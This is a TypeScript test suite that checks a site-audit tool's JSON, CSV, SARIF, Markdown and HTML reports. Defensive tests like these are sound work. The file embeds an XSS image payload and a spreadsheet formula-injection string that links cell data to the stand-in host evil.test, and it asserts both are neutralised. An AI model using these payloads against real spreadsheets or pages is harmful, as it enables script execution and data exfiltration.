import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import Ajv from "ajv";
import addFormats from "ajv-formats";
import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startStaticServer, type StaticServer } from "@/e2e/support/static-server";
import { findings, scans } from "@/drizzle/schema";
import { getDb } from "@/lib/db/client";
import { resetEnvForTests } from "@/lib/env";
import { newId } from "@/lib/ids";
import { closeSharedBrowser, withSharedBrowser } from "../shared-browser";
import { buildCsvReport, CSV_COLUMNS } from "./build-csv";
import { buildHtmlReport } from "./build-html";
import { buildJsonReport } from "./build-json";
import { buildMarkdownReport } from "./build-markdown";
import { buildSarifLog } from "./build-sarif";
import { embedScreenshots } from "./embed-screenshots";
import { loadReportData } from "./load-report-data";
import { ReportData } from "./report-data";
import { runFixtureScan } from "./scan-fixture";
import { getObjectStore } from "@/lib/object-store";

const HOSTILE_TITLE = `<img src=x onerror="window.__pwned=1">`;
const INJECTION = `=HYPERLINK("http://evil.test/?"&A1,"click")`;
/** "/" has no extension for the static server to type it by. */
const HTML = { "content-type": "text/html; charset=utf-8" };
const doc = (title: string, body: string) => `<!doctype html><html lang="en"><head><title>${title}</title><meta name="description" content="A page"></head><body><main><h1>Hi</h1>${body}</main></body></html>`;

/** RFC 4180 parser for the test (quoted fields, doubled quotes, CRLF records). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = "";
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) field += c;
    else if (c === '"') quoted = true;
    else if (c === ",") endField();
    else if (c === "\r" && text[i + 1] === "\n") {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += c;
  }
  if (field || row.length) throw new Error("CSV does not end with CRLF");
  return rows;
}

describe("reports of a real scan (json, csv, sarif, markdown, html in Chromium)", () => {
  let site: StaticServer;
  const routes: Record<string, { body: string; headers?: Record<string, string> }> = {
    "/": { body: doc(HOSTILE_TITLE, `<img src="/pic.png" width="10" height="10"> <a href="/b.html">B</a>`), headers: HTML },
    "/b.html": { body: doc("B", `<form><input type="text" name="q"></form>`) },
  };
  let data: ReportData;
  let shots: Map<string, string>;
  beforeAll(async () => {
    process.env.SITELINT_URL_ALLOWLIST = "127.0.0.1";
    process.env.SITELINT_PAGE_TIMEOUT_MS = "15000";
    resetEnvForTests();
    site = await startStaticServer({ root: os.tmpdir(), routes });
    const base = await runFixtureScan({ url: site.url("/"), crawlBudget: 2 });
    routes["/b.html"] = { body: doc("B", `<form><input type="text" name="q" aria-label="Search"></form> <div style="margin:60px"><button style="width:48px;height:48px"></button></div>`) };
    const head = await runFixtureScan({ url: site.url("/"), crawlBudget: 2, baselineScanId: base });
    const db = await getDb();
    // Hostile stored data a page could carry into a report: a formula-looking title and selector.
    await db.insert(findings).values({
      id: newId("fnd"), module: "sitelint", sourceKind: "scan", sourceId: head, sourceTool: "sitelint-seo", ruleId: "seo-test-injection", category: "seo", severity: "low",
      title: INJECTION, confidence: 0.5, pageUrl: site.url("/b.html"), viewport: "desktop", selector: "@SUM(1+1)", fingerprint: "f".repeat(64), suggestedFix: "-2+3",
    });
    // The refs the builders link (set here so the test does not depend on which rules the checks map to refs).
    await db.update(findings).set({ refs: { axe: ["image-alt"], wcag: ["1.1.1"], lighthouse: ["image-alt"] } }).where(and(eq(findings.sourceId, head), eq(findings.ruleId, "image-alt")));
    // The site grade as finalizeScan stores it (`SiteSecurityGrade`), fixed here so the rendering is checked exactly.
    const [row] = await db.select().from(scans).where(eq(scans.id, head));
    const security = { start: { url: site.url("/"), score: 55, grade: "C" }, lowest: { url: site.url("/b.html"), score: 20, grade: "F" }, pages_graded: 2, by_grade: { C: 1, F: 1 }, redirection: null };
    await db.update(scans).set({ summary: { ...row!.summary, security } }).where(eq(scans.id, head));
    data = await loadReportData(db, { scanId: head, groupBy: "rule" });
    shots = await embedScreenshots(getObjectStore(), data.pages);
  }, 180_000);
  afterAll(async () => {
    await closeSharedBrowser();
    await site?.close();
  });

  it("json: the documented shape (zod), versioned, with refs, pages and the baseline diff", () => {
    const parsed = ReportData.parse(JSON.parse(buildJsonReport(data)));
    expect(parsed.schema_version).toBe("1.0.0");
    expect(parsed.pages.map((p) => new URL(p.url).pathname).sort()).toEqual(["/", "/b.html"]);
    expect(parsed.finding_count).toBe(parsed.findings.length);
    expect(parsed.findings.find((f) => f.rule_id === "image-alt")?.refs).toMatchObject({ wcag: ["1.1.1"] });
    expect(parsed.baseline).toMatchObject({ counts: { new: 2, fixed: 1 } }); // + button-name, + the inserted row; − label
    expect(parsed.baseline!.fixed.map((f) => f.rule_id)).toEqual(["label"]);
    expect(parsed.findings.filter((f) => f.baseline_state === "new").map((f) => f.rule_id).sort()).toEqual(["button-name", "seo-test-injection"]);
    expect(parsed.rules.find((r) => r.rule_id === "image-alt")).toMatchObject({ page_count: 1, finding_count: 1 });
    expect(parsed.summary.findings_total).toBe(parsed.findings.length);
    expect(parsed.summary.security).toEqual({ grade: "C", score: 55, lowest: { url: site.url("/b.html"), score: 20, grade: "F" } });
  });

  it("csv: RFC 4180 that parses back, one record per finding, formula cells defused", () => {
    const text = buildCsvReport(data);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(data.findings.length + 1);
    const col = (name: string) => CSV_COLUMNS.indexOf(name as never);
    const hostile = rows.find((r) => r[col("rule_id")] === "seo-test-injection")!;
    expect(hostile[col("title")]).toBe(`'${INJECTION}`);
    expect(hostile[col("selector")]).toBe("'@SUM(1+1)");
    expect(hostile[col("suggested_fix")]).toBe("'-2+3");
    expect(rows.every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
    expect(rows.find((r) => r[col("rule_id")] === "image-alt")![col("wcag")]).toBe("1.1.1");
  });

  it("sarif: valid against the official SARIF 2.1.0 schema, selector as logical location, fingerprints, refs", () => {
    const schemaFile = path.join(process.cwd(), "node_modules/@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json");
    // The shipped schema is draft-04 (`id`); ajv 8 reads it as draft-07 once `id` is `$id` (no draft-04-only keyword
    // is used). Its `language` pattern (`^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$`) is invalid with the `u` flag, so
    // patterns are compiled without it (unicodeRegExp: false), as ajv 6 — which jest-sarif uses — did.
    const { $schema: _draft, id, ...schema } = JSON.parse(fs.readFileSync(schemaFile, "utf8"));
    const ajv = new Ajv({ strict: false, allErrors: true, unicodeRegExp: false });
    addFormats(ajv);
    const validate = ajv.compile({ ...schema, $id: id });
    const log = JSON.parse(JSON.stringify(buildSarifLog(data, { informationUri: "http://localhost:3000" })));
    expect(validate(log), JSON.stringify(validate.errors?.slice(0, 5))).toBe(true);
    expect(validate({ ...log, runs: [{ ...log.runs[0], results: [{ ...log.runs[0].results[0], level: "fatal" }] }] })).toBe(false); // the validator is live
    const run = log.runs[0];
    expect(run.tool.driver.name).toBe("OmniAudit SiteLint");
    expect(run.results).toHaveLength(data.findings.length);
    const img = run.results.find((r: { ruleId: string }) => r.ruleId === "image-alt");
    expect(run.tool.driver.rules[img.ruleIndex].id).toBe("image-alt");
    expect(run.tool.driver.rules[img.ruleIndex].defaultConfiguration.level).toBe("error");
    expect(run.tool.driver.rules[img.ruleIndex].help.text).toContain("https://www.w3.org/WAI/WCAG22/Understanding/non-text-content");
    expect(img.locations[0].physicalLocation.artifactLocation.uri).toBe(site.url("/"));
    expect(img.locations[0].physicalLocation.region.snippet.text).toContain("<img");
    expect(img.locations[0].logicalLocations[0]).toEqual({ fullyQualifiedName: expect.stringContaining("img"), kind: "element" });
    expect(img.partialFingerprints["sitelintFingerprint/v1"]).toMatch(/^[0-9a-f]{64}$/);
    expect(img.properties.refs.wcag).toEqual(["1.1.1"]);
    expect(img.baselineState).toBe("unchanged");
    expect(run.invocations[0]).toMatchObject({ executionSuccessful: true, startTimeUtc: expect.stringMatching(/Z$/) });
  });

  it("markdown: the counts, top rules and new / fixed against the baseline, hostile text escaped", () => {
    const md = buildMarkdownReport(data, { consoleUrl: "http://localhost:3000/jobs/x#findings" });
    expect(md).toContain(`— ${data.summary.findings_total} finding(s)`);
    expect(md).toContain(`| ${["critical", "high", "medium", "low", "info"].map((k) => data.summary.by_severity[k] ?? 0).join(" | ")} |`);
    expect(md).toContain("**2 new**, **1 fixed**");
    expect(md).toMatch(/`image-alt`/);
    expect(md).toContain("Security grade: **C** (55), lowest page F (`/b.html`)");
    expect(md).not.toContain(INJECTION); // escaped: \= … \( … no raw formula-looking Markdown either
  });

  it("html: renders in Chromium — summary, a rule group, an embedded screenshot; the hostile title stays text", async () => {
    const page = await withSharedBrowser(async (browser) => {
      const ctx = await browser.newContext();
      const p = await ctx.newPage();
      const violations: string[] = [];
      p.on("console", (m) => violations.push(m.text()));
      await p.setContent(buildHtmlReport(data, shots), { waitUntil: "load" });
      const out = await p.evaluate(() => ({
        total: document.querySelector('[data-testid="findings-total"]')?.textContent,
        summary: document.querySelector('[data-testid="summary"]')?.textContent ?? "",
        groups: [...document.querySelectorAll('[data-testid="rule-group"]')].map((g) => g.getAttribute("data-rule-id")),
        imageAlt: document.querySelector('[data-rule-id="image-alt"]')?.textContent ?? "",
        shots: [...document.querySelectorAll('img[data-testid="screenshot"]')].map((i) => ({ w: (i as HTMLImageElement).naturalWidth, src: (i as HTMLImageElement).src.slice(0, 22) })),
        strayImgs: [...document.querySelectorAll("img")].filter((i) => i.getAttribute("src") === "x").length,
        pwned: (window as unknown as { __pwned?: number }).__pwned ?? 0,
        pagesText: document.querySelector('[data-testid="pages-table"]')?.textContent ?? "",
        grade: document.querySelector('[data-testid="security-grade"]')?.textContent ?? "",
        scripts: document.scripts.length,
      }));
      await ctx.close();
      return { ...out, violations };
    });
    expect(page.total).toBe(String(data.summary.findings_total));
    expect(page.summary).toContain("pages ok");
    expect(page.groups).toEqual(data.rules.map((r) => r.rule_id));
    expect(page.imageAlt).toContain("1 page(s), 1 finding(s)");
    expect(page.imageAlt).toContain(site.url("/"));
    expect(page.shots.length).toBeGreaterThan(0);
    expect(page.shots.every((s) => s.w > 0 && s.src === "data:image/png;base64,")).toBe(true);
    expect(page.strayImgs).toBe(0);
    expect(page.pwned).toBe(0);
    expect(page.pagesText).toContain(HOSTILE_TITLE);
    expect(page.grade).toContain("C");
    expect(page.grade).toContain("security grade (55)");
    expect(page.grade).toContain("lowest: F (20)");
    expect(page.scripts).toBe(0);
    expect(page.violations.filter((v) => /Content Security Policy/i.test(v))).toEqual([]);
  });
});
